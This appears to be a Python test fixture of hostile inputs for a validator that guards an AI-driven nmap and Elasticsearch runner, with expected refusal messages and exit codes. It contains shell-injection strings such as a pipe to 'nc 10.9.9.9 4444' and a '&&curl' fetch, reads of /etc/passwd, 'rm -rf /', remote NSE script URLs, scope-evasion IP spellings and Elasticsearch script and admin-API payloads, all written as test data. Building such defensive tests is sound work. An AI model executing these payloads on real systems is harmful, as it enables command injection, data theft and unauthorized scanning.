"""The hostile inputs, as data: what an attacker (or a confused model) might hand `operatorx run`.

Each ``Case`` is one ``--call`` value for one tool, the words the refusal must contain (each
one, case-insensitive, in the message *and* in the audit log's refusal) and the exit status:
2 when the call is malformed or smuggles something (schema / parser), 3 when it is
well-formed but policy refuses it (scope, caps). Every case is run with ``--yes``: the worst
case, where nothing but validation and policy stands between the input and a tool.

The tables are built from a few lists so that every string field of both schemas meets
every kind of payload; ``ALL`` is what the suite runs.
"""

from __future__ import annotations

import json
from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    id: str
    tool: str  # "nmap" | "elasticsearch"
    call: str  # the --call text
    words: tuple[str, ...]  # must all appear in the message and the audit refusal
    code: int = 2  # 2 invalid / smuggling, 3 refused by policy


def _j(obj) -> str:
    return json.dumps(obj)


# --- nmap: shell metacharacters and option smuggling in every string field ------------------

SHELL = {
    "semicolon": "127.0.0.1; id",
    "subshell": "$(id)",
    "backticks": "`id`",
    "pipe": "127.0.0.1|nc 10.9.9.9 4444",
    "and": "127.0.0.1&&curl http://10.9.9.9/x",
    "newline-option": "127.0.0.1\n-oN /tmp/x",
    "redirect": "127.0.0.1>/tmp/x",
    "quote": "127.0.0.1'",
    "ifs": "x$IFS-oN$IFS/tmp/x",
    "nul": "127.0.0.1\x00-oN",
}
OPTIONS = {
    "iL": "-iL/etc/passwd",
    "oN": "-oN/tmp/x",
    "script-path": "--script=/tmp/x.nse",
    "datadir": "--datadir=/tmp",
    "flag": "-sV",
}
# field → (how it is written in the call, words for a shell payload, words for an option payload)
NMAP_FIELDS = {
    "targets": ("list", ("targets", "cannot be in a target"), ("targets", "not a valid target")),
    "exclude": ("list", ("exclude", "cannot be in a target"), ("exclude", "not a valid target")),
    "ports": ("str", ("ports", "not a port list"), ("ports", "not a port list")),
    "scripts": ("list", ("scripts", "is not allowed"), ("scripts", "is not allowed")),
    "host_timeout": ("str", ("host_timeout", "must look like"), ("host_timeout", "must look like")),
}
# Payloads that are refused with a different (still exact) reason in some fields.
_SPECIAL = {
    ("targets", "nul"): ("targets", "cannot be in a target"),
}


def _nmap_field_cases() -> list[Case]:
    out = []
    for fname, (shape, shell_words, option_words) in NMAP_FIELDS.items():
        for group, payloads, words in (("shell", SHELL, shell_words), ("option", OPTIONS, option_words)):
            for pid, payload in payloads.items():
                call = {"targets": ["127.0.0.1"]}
                call[fname] = [payload] if shape == "list" else payload
                w = _SPECIAL.get((fname, pid), words)
                out.append(Case(f"nmap-{fname}-{group}-{pid}", "nmap", _j(call), w))
    return out


NMAP_SHAPE = [
    Case("nmap-extra-args", "nmap", _j({"targets": ["127.0.0.1"], "args": "-oN /tmp/x"}), ("args", "extra")),
    Case("nmap-extra-output", "nmap", _j({"targets": ["127.0.0.1"], "output": "/etc/cron.d/x"}), ("output",)),
    Case("nmap-extra-command", "nmap", _j({"targets": ["127.0.0.1"], "command": "id"}), ("command", "extra")),
    Case(
        "nmap-top-ports-smuggle",
        "nmap",
        _j({"targets": ["127.0.0.1"], "top_ports": "100 -oN /tmp/x"}),
        ("top_ports", "integer"),
    ),
    Case("nmap-timing-smuggle", "nmap", _j({"targets": ["127.0.0.1"], "timing": "4; id"}), ("timing",)),
    Case(
        "nmap-min-rate-smuggle", "nmap", _j({"targets": ["127.0.0.1"], "min_rate": "1 -iL x"}), ("min_rate",)
    ),
    Case(
        "nmap-targets-as-string",
        "nmap",
        _j({"targets": "127.0.0.1 -oN /tmp/x"}),
        ("targets", "list"),
    ),
    Case("nmap-tool-mismatch", "nmap", _j({"tool": "elasticsearch", "index": "logs-*"}), ("--tool is nmap",)),
    Case("nmap-not-json", "nmap", "{'targets': ['127.0.0.1']}; id", ("not valid json",)),
    Case("nmap-json-array", "nmap", _j(["127.0.0.1", "-oN", "/tmp/x"]), ("json object",)),
]

# --- nmap: command lines that write or read files, or leave the scan form --------------------


def _cl(cid: str, command: str, *words: str) -> Case:
    return Case(f"nmap-cmd-{cid}", "nmap", command, words)


NMAP_COMMANDS = [
    _cl("oN", "nmap -oN /tmp/out 127.0.0.1", "-oN", "writes output to a file"),
    _cl("oX-file", "nmap -oX /tmp/out.xml 127.0.0.1", "-oX /tmp/out.xml", "writes output to a file"),
    _cl("oG", "nmap -oG /tmp/out 127.0.0.1", "-oG", "writes output to a file"),
    _cl("oA", "nmap -oA /tmp/out 127.0.0.1", "-oA", "writes output to files"),
    _cl("oS", "nmap -oS /tmp/out 127.0.0.1", "-oS", "writes output"),
    _cl("oM", "nmap -oM /tmp/out 127.0.0.1", "-oM", "writes output"),
    _cl("oN-glued", "nmap -oN/tmp/out 127.0.0.1", "-oN/tmp/out", "writes output to a file"),
    _cl("oX-glued", "nmap -oX/tmp/out.xml 127.0.0.1", "-oX/tmp/out.xml", "writes output to a file"),
    _cl("oX-second", "nmap -oX - -oN /tmp/x 127.0.0.1", "-oN", "writes output to a file"),
    _cl("append-output", "nmap --append-output 127.0.0.1", "--append-output", "writes output"),
    _cl("log-errors", "nmap --log-errors 127.0.0.1", "--log-errors", "writes output"),
    _cl("iL", "nmap -iL /etc/passwd", "-iL", "reads targets from a file"),
    _cl("iL-glued", "nmap -iL/etc/hosts", "-iL/etc/hosts", "reads targets from a file"),
    _cl("iR", "nmap -iR 100", "-iR", "random hosts"),
    _cl("resume", "nmap --resume /tmp/scan.xml", "--resume", "reads a saved scan"),
    _cl("datadir", "nmap --datadir /tmp/evil 127.0.0.1", "--datadir", "data files"),
    _cl("datadir-eq", "nmap --datadir=/tmp/evil 127.0.0.1", "--datadir", "data files"),
    _cl("stylesheet", "nmap --stylesheet http://10.9.9.9/x.xsl 127.0.0.1", "--stylesheet", "stylesheet"),
    _cl("webxml", "nmap --webxml 127.0.0.1", "--webxml", "stylesheet"),
    _cl("script-args-file", "nmap --script-args-file /tmp/a 127.0.0.1", "--script-args-file", "from a file"),
    _cl("excludefile", "nmap --excludefile /etc/passwd 127.0.0.1", "--excludefile", "from a file"),
    _cl("servicedb", "nmap --servicedb /tmp/s 127.0.0.1", "--servicedb", "from a file"),
    _cl("versiondb", "nmap --versiondb /tmp/v 127.0.0.1", "--versiondb", "from a file"),
    _cl("script-updatedb", "nmap --script-updatedb", "--script-updatedb", "script database"),
    _cl("interface", "nmap -e eth0 127.0.0.1", "-e", "network interface"),
    _cl("spoof-source", "nmap -S 10.9.9.9 127.0.0.1", "-S", "spoofs the source address"),
    _cl("decoys", "nmap -D 10.9.9.9,ME 127.0.0.1", "-D", "decoy"),
    _cl("proxies", "nmap --proxies http://10.9.9.9:8080 127.0.0.1", "--proxies", "proxies"),
    _cl("ftp-bounce", "nmap -b anon@10.9.9.9 127.0.0.1", "-b", "bounces"),
    _cl("idle-scan", "nmap -sI 10.9.9.9 127.0.0.1", "-sI", "zombie"),
    _cl("dns-servers", "nmap --dns-servers 10.9.9.9 127.0.0.1", "--dns-servers", "dns queries"),
    _cl("privileged", "nmap --privileged 127.0.0.1", "--privileged", "privilege decision"),
    _cl("unknown-option", "nmap --max-retries 0 127.0.0.1", "--max-retries", "not supported"),
    _cl("semicolon", "nmap 127.0.0.1; id", "shell syntax"),
    _cl("and", "nmap 127.0.0.1 && curl http://10.9.9.9", "shell syntax"),
    _cl("subshell", "nmap $(cat /tmp/targets)", "shell syntax"),
    _cl("backticks", "nmap `id`", "shell syntax"),
    _cl("pipe", "nmap 127.0.0.1 | tee /tmp/x", "shell syntax"),
    _cl("redirect", "nmap 127.0.0.1 > /tmp/x", "shell syntax"),
    _cl("stderr-redirect", "nmap 127.0.0.1 2>/tmp/x", "shell syntax"),
    _cl("quoted-options", "nmap '127.0.0.1 -oN /tmp/x'", "shell syntax"),
    _cl("comment", "nmap 127.0.0.1 #-oN /tmp/x", "shell syntax"),
    _cl("newline", "nmap 127.0.0.1\n-oN /tmp/x", "-oN", "writes output to a file"),
    _cl("unbalanced-quote", "nmap '127.0.0.1", "check the quotes"),
    # The program must be nmap (a path to nmap is tolerated: config.nmap.binary is what runs).
    _cl("sudo", "sudo nmap 127.0.0.1", "must start with 'nmap'", "leave out sudo"),
    _cl("other-program", "nmapx 127.0.0.1", "must start with 'nmap'"),
    _cl("relative-path", "../../tmp/nmap 127.0.0.1", "must start with 'nmap'"),
    _cl("dot-path", "/usr/bin/./nmap 127.0.0.1", "must start with 'nmap'"),
    _cl("no-target", "nmap -sT", "no target"),
]

# --- NSE: paths, URLs, categories and scripts outside the allow-list, script-args ----------

BAD_SCRIPTS = [
    "/tmp/x.nse",
    "./x.nse",
    "../../tmp/x",
    "http://10.9.9.9/x.nse",
    "https://10.9.9.9/x.nse",
    "x.nse",
    "ssh-brute",
    "http-shellshock",
    "smb-vuln-ms17-010",
    "intrusive",
    "exploit",
    "brute",
    "dos",
    "malware",
    "external",
    "all",
    "*",
    "http-*",
    "default or intrusive",
    "not safe",
]


def _nse_cases() -> list[Case]:
    out = [
        Case(
            f"nse-json-{i:02d}",
            "nmap",
            _j({"targets": ["127.0.0.1"], "scripts": ["banner", s]}),
            ("scripts", "is not allowed"),
        )
        for i, s in enumerate(BAD_SCRIPTS)
    ]
    out += [
        _cl("script-file", "nmap --script=/tmp/x.nse 127.0.0.1", "never loaded from a file"),
        _cl("script-url", "nmap --script http://10.9.9.9/x.nse 127.0.0.1", "never loaded from a file"),
        _cl("script-nse-name", "nmap --script=x.nse 127.0.0.1", "never loaded from a file"),
        _cl("script-in-list", "nmap --script=banner,/tmp/x.nse 127.0.0.1", "never loaded from a file"),
        _cl("script-dotfile", "nmap --script .x 127.0.0.1", "never loaded from a file"),
        _cl("script-args", "nmap --script-args user=root 127.0.0.1", "--script-args", "arguments into nse"),
        _cl(
            "script-args-eq",
            "nmap --script=banner --script-args=banner.timeout=1 127.0.0.1",
            "--script-args",
            "arguments into nse",
        ),
        _cl("script-intrusive", "nmap --script=intrusive 127.0.0.1", "intrusive", "is not allowed"),
        _cl("script-brute", "nmap --script ssh-brute -p 22 127.0.0.1", "ssh-brute", "is not allowed"),
        _cl("script-trace", "nmap -sC --script-trace 127.0.0.1", "--script-trace", "script traffic"),
        _cl("script-expression", 'nmap --script "default or intrusive" 127.0.0.1', "shell syntax"),
    ]
    return out


# --- scope: out-of-scope targets in every spelling ----------------------------------------------

OUTSIDE = "outside the allowed scope"
NOT_INSIDE = "not inside the allowed scope"


def _t(cid: str, targets: list[str], code: int, *words: str, **extra) -> Case:
    return Case(f"scope-{cid}", "nmap", _j({"targets": targets, **extra}), words, code)


SCOPE = [
    _t("public", ["8.8.8.8"], 3, "8.8.8.8", OUTSIDE),
    _t("public-2", ["1.1.1.1"], 3, "1.1.1.1", OUTSIDE),
    _t("private", ["10.0.0.1"], 3, "10.0.0.1", OUTSIDE),
    _t("metadata", ["169.254.169.254"], 3, "169.254.169.254", OUTSIDE),
    _t("any-address", ["0.0.0.0"], 3, "0.0.0.0", OUTSIDE),
    _t("broadcast", ["255.255.255.255"], 3, OUTSIDE),
    _t("multicast", ["224.0.0.1"], 3, OUTSIDE),
    _t("decimal-loopback", ["2130706433"], 2, "numeric ip spelling"),
    _t("decimal-public", ["134744072"], 2, "numeric ip spelling"),
    _t("hex", ["0x08080808"], 2, "numeric ip spelling"),
    _t("hex-dotted", ["0x8.0x8.0x8.0x8"], 2, "numeric ip spelling"),
    _t("octal", ["0177.0.0.1"], 2, "numeric ip spelling"),
    _t("short-form", ["127.1"], 2, "numeric ip spelling"),
    _t("short-form-public", ["8.8.2056"], 2, "numeric ip spelling"),
    _t("zero-padded", ["127.000.000.001"], 2, "leading zeros"),
    _t("zero-padded-public", ["008.008.008.008"], 2, "leading zeros"),
    _t("octal-dotted", ["010.010.010.010"], 2, "leading zeros"),
    _t("mapped", ["::ffff:8.8.8.8"], 3, "ipv4-mapped", "8.8.8.8"),
    _t("mapped-loopback", ["::ffff:127.0.0.1"], 3, "ipv4-mapped"),
    _t("mapped-hex", ["::ffff:808:808"], 3, "ipv4-mapped", "8.8.8.8"),
    _t("v4-compatible", ["::127.0.0.1"], 3, OUTSIDE),
    _t("nat64", ["64:ff9b::808:808"], 3, OUTSIDE),
    _t("ipv6-public", ["2001:4860:4860::8888"], 3, "2001:4860:4860::8888", OUTSIDE),
    _t("ipv6-link-local", ["fe80::1"], 3, OUTSIDE),
    _t("ipv6-unspecified", ["::"], 3, OUTSIDE),
    _t("ipv6-wide", ["::1/64"], 3, "more than the limit"),
    _t("ipv6-cidr-outside", ["2001:db8::/120"], 3, NOT_INSIDE),
    _t("everything", ["0.0.0.0/0"], 3, "4,294,967,296", "more than the limit"),
    _t("loopback-slash-8", ["127.0.0.0/8"], 3, "16,777,216", "more than the limit"),
    _t("host-bits-wide", ["127.0.0.1/4"], 3, "more than the limit"),
    _t("public-24", ["8.8.8.0/24"], 3, NOT_INSIDE),
    _t("neighbour-24", ["126.255.255.0/24"], 3, NOT_INSIDE),
    _t("range-cross-low", ["126-127.0.0.1"], 3, NOT_INSIDE),
    _t("range-cross-high", ["127-128.0.0.1"], 3, NOT_INSIDE),
    _t("star-first", ["*.0.0.1"], 3, NOT_INSIDE),
    _t("star-public", ["8.8.8.*"], 3, NOT_INSIDE),
    _t("stars-wide", ["127.*.*.*"], 3, "more than the limit"),
    _t("range-over-255", ["127.0.0.1-300"], 2, "not a valid ipv4 range"),
    _t("range-backwards", ["127.0.0.9-1"], 2, "runs backwards"),
    _t("hostname", ["example.com"], 3, "example.com", "not in the allowed hostnames"),
    _t("hostname-suffix", ["localhost.evil.example"], 3, "not in the allowed hostnames"),
    _t("hostname-prefix", ["evil.localhost"], 3, "not in the allowed hostnames"),
    _t("metadata-name", ["metadata.google.internal"], 3, "not in the allowed hostnames"),
    _t("host-port", ["localhost:22"], 2, "not a valid ipv6 address"),
    _t("url", ["http://127.0.0.1/"], 2, "not a valid cidr block"),
    _t("userinfo", ["user@127.0.0.1"], 2, "cannot be in a target"),
    _t("escape-sequence", ["\x1b[2J127.0.0.1"], 2, "cannot be in a target", "'\\x1b'"),
    _t("comma-list", ["127.0.0.1,8.8.8.8"], 2, "cannot be in a target"),
    _t("mixed-one-bad", ["127.0.0.1", "127.0.0.2", "8.8.8.8"], 3, "8.8.8.8", OUTSIDE),
    _t("mixed-last-of-32", [f"127.0.0.{i}" for i in range(1, 32)] + ["10.1.2.3"], 3, "10.1.2.3", OUTSIDE),
    _t("mixed-hostname", ["localhost", "example.com"], 3, "example.com"),
    _t("mixed-cidr", ["127.0.0.0/24", "8.8.8.0/24"], 3, "8.8.8.0/24", NOT_INSIDE),
    _t("mixed-families", ["127.0.0.1", "2001:db8::1"], 2, "cannot mix ipv4 and ipv6"),
    _t("too-many-in-total", ["127.0.0.0/20", "127.0.16.0/20"], 3, "8,192", "more than the limit"),
    _t("exclude-does-not-widen", ["8.8.8.0/24"], 3, NOT_INSIDE, exclude=["8.8.8.8"]),
    _t("too-many-targets", [f"127.0.0.{i}" for i in range(1, 34)], 2, "at most 32"),
]

# --- Elasticsearch: scripts, writes, admin APIs, other indices, giant sizes ------------------

SCRIPT = ("scripts can run arbitrary code",)


def _es(cid: str, index: str, body, *words: str, code: int = 2) -> Case:
    return Case(f"es-{cid}", "elasticsearch", _j({"index": index, "body": body}), words, code)


def _ec(cid: str, call: dict, *words: str, code: int = 2) -> Case:
    """A search in the compact (planner) form."""
    return Case(f"es-compact-{cid}", "elasticsearch", _j(call), words, code)


_TS = {"range": {"@timestamp": {"gte": "now-1h"}}}

ES_BODIES = [
    _es(
        "script-query",
        "logs-*",
        {"query": {"script": {"script": {"source": "1==1"}}}},
        "query.script",
        *SCRIPT,
    ),
    _es(
        "script-in-filter",
        "logs-*",
        {"query": {"bool": {"filter": [_TS, {"script": {"script": "doc['x'].value > 1"}}]}}},
        "filter[1].script",
        *SCRIPT,
    ),
    _es(
        "script-deep",
        "logs-*",
        {"query": {"bool": {"must_not": [{"term": {"event.dataset": {"value": "x", "script": "1"}}}]}}},
        "script",
        *SCRIPT,
    ),
    _es(
        "function-score",
        "logs-*",
        {"query": {"function_score": {"query": {"match_all": {}}, "boost_mode": "replace"}}},
        "function_score",
    ),
    _es(
        "script-score",
        "logs-*",
        {"query": {"script_score": {"query": {"match_all": {}}, "script": {"source": "1"}}}},
        "script_score",
        *SCRIPT,
    ),
    _es(
        "runtime-mappings",
        "logs-*",
        {"runtime_mappings": {"x": {"type": "keyword", "script": "emit('a')"}}, "size": 1},
        "runtime_mappings",
        "runtime fields run scripts",
    ),
    _es("script-fields", "logs-*", {"script_fields": {"x": {"script": "1"}}}, "script_fields", *SCRIPT),
    _es(
        "scripted-metric",
        "logs-*",
        {
            "size": 0,
            "aggs": {"x": {"scripted_metric": {"map_script": "state.x = 1", "reduce_script": "return 1"}}},
        },
        "scripted_metric",
        *SCRIPT,
    ),
    _es(
        "terms-script",
        "logs-*",
        {"size": 0, "aggs": {"x": {"terms": {"script": "doc['a'].value"}}}},
        "script",
        *SCRIPT,
    ),
    _es(
        "bucket-script",
        "logs-*",
        {
            "size": 0,
            "aggs": {
                "x": {
                    "terms": {"field": "source.ip"},
                    "aggs": {"y": {"bucket_script": {"buckets_path": {}, "script": "1"}}},
                }
            },
        },
        "bucket_script",
        *SCRIPT,
    ),
    _es(
        "bucket-selector",
        "logs-*",
        {"size": 0, "aggs": {"x": {"bucket_selector": {"buckets_path": {}, "script": "1"}}}},
        "bucket_selector",
        *SCRIPT,
    ),
    _es(
        "sort-script",
        "logs-*",
        {"sort": {"_script": {"type": "number", "script": "1", "order": "asc"}}},
        "script",
        *SCRIPT,
    ),
    _es("stored-script", "logs-*", {"query": {"script": {"script": {"id": "stored"}}}}, *SCRIPT),
    _es(
        "terms-set-script",
        "logs-*",
        {"query": {"terms_set": {"x": {"terms": ["a"], "minimum_should_match_script": {"source": "1"}}}}},
        "terms_set",
    ),
    _es("wrapper", "logs-*", {"query": {"wrapper": {"query": "eyJzY3JpcHQiOnt9fQ=="}}}, "query.wrapper"),
    _es("query-string", "logs-*", {"query": {"query_string": {"query": "*"}}}, "query_string", "any field"),
    _es(
        "simple-query-string",
        "logs-*",
        {"query": {"simple_query_string": {"query": "a | b"}}},
        "simple_query_string",
    ),
    _es(
        "terms-lookup",
        "logs-*",
        {"query": {"terms": {"source.ip": {"index": ".security-7", "id": "1", "path": "ips"}}}},
        "lookups in other indices",
    ),
    _es(
        "terms-lookup-in-bool",
        "logs-*",
        {
            "query": {
                "bool": {"filter": [{"terms": {"user.name": {"index": "users", "id": "1", "path": "n"}}}]}
            }
        },
        "lookups in other indices",
    ),
    _es(
        "more-like-this",
        "logs-*",
        {"query": {"more_like_this": {"like": [{"_index": ".security", "_id": "1"}]}}},
        "more_like_this",
        "reads other documents",
    ),
    _es(
        "percolate",
        "logs-*",
        {"query": {"percolate": {"field": "q", "index": ".security", "id": "1"}}},
        "percolate",
    ),
    _es(
        "geo-shape-lookup",
        "logs-*",
        {"query": {"geo_shape": {"loc": {"indexed_shape": {"index": ".security", "id": "1", "path": "s"}}}}},
        "geo_shape",
    ),
    _es("regexp", "logs-*", {"query": {"regexp": {"message": ".*.*.*.*"}}}, "regexp"),
    _es("nested-bool", "logs-*", {"query": {"bool": {"should": [{"bool": {"must": []}}]}}}, "nested bool"),
    _es("match-all-options", "logs-*", {"query": {"match_all": {"boost": 1e308}}}, "match_all", "no options"),
    _es("from-deep-paging", "logs-*", {"from": 100000, "size": 10}, "from"),
    _es("search-after", "logs-*", {"search_after": [1], "size": 10}, "search_after"),
    _es("size-10001", "logs-*", {"size": 10001}, "size", "0 to 10000"),
    _es("size-giant", "logs-*", {"size": 1_000_000_000}, "size", "0 to 10000"),
    _es("size-negative", "logs-*", {"size": -1}, "size", "0 to 10000"),
    _es("size-string", "logs-*", {"size": "10; DROP"}, "size"),
    _es("size-over-cap", "logs-*", {"size": 5000}, "size 5000", "limit of 500", code=3),
    _es("pit", "logs-*", {"pit": {"id": "x"}}, "pit"),
    _es("profile", "logs-*", {"profile": True}, "profil"),
    _es("explain", "logs-*", {"explain": True}, "explain"),
    _es("stored-fields", "logs-*", {"stored_fields": ["*"]}, "stored_fields"),
    _es("docvalue-fields", "logs-*", {"docvalue_fields": ["*"]}, "docvalue_fields"),
    _es("highlight", "logs-*", {"highlight": {"fields": {"*": {}}}}, "highlight"),
    _es("collapse", "logs-*", {"collapse": {"field": "source.ip"}}, "collapse"),
    _es("post-filter", "logs-*", {"post_filter": {"match_all": {}}}, "post_filter"),
    _es("indices-boost", "logs-*", {"indices_boost": [{".security": 1.0}]}, "indices_boost"),
    _es("source-includes", "logs-*", {"_source": {"includes": ["*"]}}, "_source", "list of field names"),
    _es(
        "terms-agg-giant",
        "logs-*",
        {"size": 0, "aggs": {"x": {"terms": {"field": "source.ip", "size": 100000}}}},
        "size",
        "1 to 10000",
    ),  # fmt: skip
    _es(
        "terms-agg-over-cap",
        "logs-*",
        {"size": 0, "aggs": {"x": {"terms": {"field": "source.ip", "size": 5000}}}},
        "aggregation size 5000",
        "limit of 100",
        code=3,
    ),
    _es(
        "histogram-too-fine",
        "logs-*",
        {
            "size": 0,
            "query": {"bool": {"filter": [{"range": {"@timestamp": {"gte": "now-30d"}}}]}},
            "aggs": {"x": {"date_histogram": {"field": "@timestamp", "fixed_interval": "1s"}}},
        },
        "histogram",
        "buckets",
        code=3,
    ),
    _es("composite-agg", "logs-*", {"size": 0, "aggs": {"x": {"composite": {"sources": []}}}}, "composite"),
    _es("top-hits", "logs-*", {"size": 0, "aggs": {"x": {"top_hits": {"size": 100}}}}, "top_hits"),
    _es(
        "two-aggs",
        "logs-*",
        {"size": 0, "aggs": {"a": {"terms": {"field": "x"}}, "b": {"terms": {"field": "y"}}}},
        "exactly one named aggregation",
    ),
    _es(
        "sub-aggs",
        "logs-*",
        {"size": 0, "aggs": {"x": {"terms": {"field": "source.ip"}, "aggs": {"y": {"max": {"field": "z"}}}}}},
        "sub-aggregations",
    ),
    _es(
        "deep-nesting",
        "logs-*",
        {
            "query": {
                "a": {"b": {"c": {"d": {"e": {"f": {"g": {"h": {"i": {"j": {"k": {"l": {"m": 1}}}}}}}}}}}}
            }
        },
        "nested deeper",
    ),  # fmt: skip
    _es("body-not-object", "logs-*", ["query"], "json object"),
]

BAD_INDICES = {
    "all": ("_all", 2, ("not an index pattern",)),
    "star": ("*", 3, ("outside the allowed indices",)),
    "star-remote": ("*:*", 3, ("outside the allowed indices",)),
    "security": (".security", 2, ("not an index pattern",)),
    "security-7": (".security-7", 2, ("not an index pattern",)),
    "remote-security": ("*:.security", 2, ("not an index pattern",)),
    "kibana-in-list": ("logs-*,.kibana", 2, ("not an index pattern",)),
    "delete-by-query": ("logs-*/_delete_by_query", 2, ("not an index pattern",)),
    "update": ("logs-*/_update/1", 2, ("not an index pattern",)),
    "bulk": ("_bulk", 2, ("not an index pattern",)),
    "bulk-path": ("logs-*/_bulk", 2, ("not an index pattern",)),
    "cluster-settings": ("_cluster/settings", 2, ("not an index pattern",)),
    "security-api": ("_security/user/admin", 2, ("not an index pattern",)),
    "snapshot": ("_snapshot/repo/snap", 2, ("not an index pattern",)),
    "traversal": ("../_nodes", 2, ("not an index pattern",)),
    "query-string": ("logs-*?refresh=true", 2, ("not an index pattern",)),
    "trailing-newline": ("logs-*\n", 2, ("not an index pattern",)),
    "upper-case": ("LOGS-*", 2, ("not an index pattern",)),
    "wider-star": ("logs-*,*", 3, ("outside the allowed indices",)),
    "wider-prefix": ("l*", 3, ("outside the allowed indices",)),
    "wider-no-dash": ("logs*", 3, ("outside the allowed indices",)),
    "other-index": ("users", 3, ("outside the allowed indices",)),
    "exclusion": ("logs-*,-logs-zeek*", 2, ("not an index pattern",)),
    "percent-encoded": ("%2esecurity", 2, ("not an index pattern",)),
    "too-many": (",".join(["logs-*"] * 9), 2, ("not an index pattern",)),
}


def _index_cases() -> list[Case]:
    return [
        _es(f"index-{k}", idx, {"size": 1}, *words, code=code)
        for k, (idx, code, words) in BAD_INDICES.items()
    ]


# Every string field of the compact EsSearch form, with smuggling attempts.
ES_FIELDS = [
    _ec("field-shell", {"where": [{"field": "source.ip;rm", "op": "exists"}]}, "where", "not a field name"),
    _ec("field-space", {"where": [{"field": "source.ip OR 1", "op": "exists"}]}, "not a field name"),
    _ec("field-dotdot", {"where": [{"field": "source..ip", "op": "exists"}]}, "not a field name"),
    _ec("field-newline", {"where": [{"field": "source.ip\n", "op": "exists"}]}, "not a field name"),
    _ec("field-path", {"fields": ["../../etc/passwd"]}, "fields", "not a field name"),
    _ec("fields-star", {"fields": ["*"]}, "not a field name"),
    _ec("fields-script", {"fields": ["x", "$(id)"]}, "not a field name"),
    _ec("sort-field", {"sort": [{"field": "@timestamp;DROP"}]}, "sort", "not a field name"),
    _ec("sort-script", {"sort": [{"field": "_script"}]}, "_script", code=3),
    _ec("agg-field", {"agg": {"field": "source.ip`id`"}}, "agg", "not a field name"),
    _ec(
        "agg-interval",
        {"agg": {"type": "date_histogram", "field": "@timestamp", "interval": "1h; x"}},
        "interval",
    ),
    _ec(
        "agg-interval-ms",
        {"agg": {"type": "date_histogram", "field": "@timestamp", "interval": "1ms"}},
        "interval",
    ),  # fmt: skip
    _ec("since-shell", {"since": "now-1d; DROP"}, "since", "not a time"),
    _ec("since-datemath-anchor", {"since": "now-1d||+1M"}, "not a time"),
    _ec("until-quote", {"until": "2024-01-01'"}, "until", "not a time"),
    _ec("until-object", {"until": {"script": "1"}}, "until"),
    _ec("index-shell", {"index": "logs-*;curl"}, "index", "not an index pattern"),
    _ec("index-system", {"index": "*:.security*"}, "index"),
    _ec("value-object", {"where": [{"field": "source.ip", "op": "eq", "value": {"script": "1"}}]}, "value"),
    _ec(
        "value-too-long",
        {"where": [{"field": "message", "op": "match", "value": "a" * 1025}]},
        "longer than 1024",
    ),
    _ec(
        "value-ip-shell",
        {"where": [{"field": "source.ip", "op": "eq", "value": "$(id)"}]},
        "not an ip address",
        code=3,
    ),
    _ec(
        "value-number-shell",
        {"where": [{"field": "destination.port", "op": "eq", "value": "22; rm -rf /"}]},
        "not a number",
        code=3,
    ),
    _ec(
        "value-in-too-many",
        {"where": [{"field": "destination.port", "op": "in", "value": list(range(101))}]},
        "1-100 values",
    ),
    _ec(
        "value-escape",
        {"where": [{"field": "http.useragent", "op": "eq", "value": "x\x1b[2K\rRisk: LOW"}]},
        "control",
    ),  # fmt: skip
    _ec(
        "value-bidi",
        {"where": [{"field": "user.name", "op": "eq", "value": "admin\u202egpj.exe"}]},
        "control",
    ),  # fmt: skip
    _ec(
        "value-c1-in-list",
        {"where": [{"field": "user.name", "op": "in", "value": ["a", "\x9b2J"]}]},
        "control",
    ),  # fmt: skip
    _ec(
        "range-bound-escape",
        {"where": [{"field": "@timestamp", "op": "range", "gte": "now-1d\x1b[8m"}]},
        "control",
    ),  # fmt: skip
    _ec("unknown-key", {"script": {"source": "1"}}, "script", "extra"),
    _ec("unknown-field", {"where": [{"field": "no.such.field", "op": "exists"}]}, "no field", code=3),
    _ec("condition-extra", {"where": [{"field": "source.ip", "op": "exists", "script": "1"}]}, "script"),
    _ec("tool-mismatch", {"tool": "nmap", "targets": ["127.0.0.1"]}, "--tool is elasticsearch"),
    _ec("body-and-extra", {"index": "logs-*", "body": {}, "method": "DELETE"}, "unknown keys", "method"),
]

ALL: list[Case] = [
    *_nmap_field_cases(),
    *NMAP_SHAPE,
    *NMAP_COMMANDS,
    *_nse_cases(),
    *SCOPE,
    *ES_BODIES,
    *_index_cases(),
    *ES_FIELDS,
]
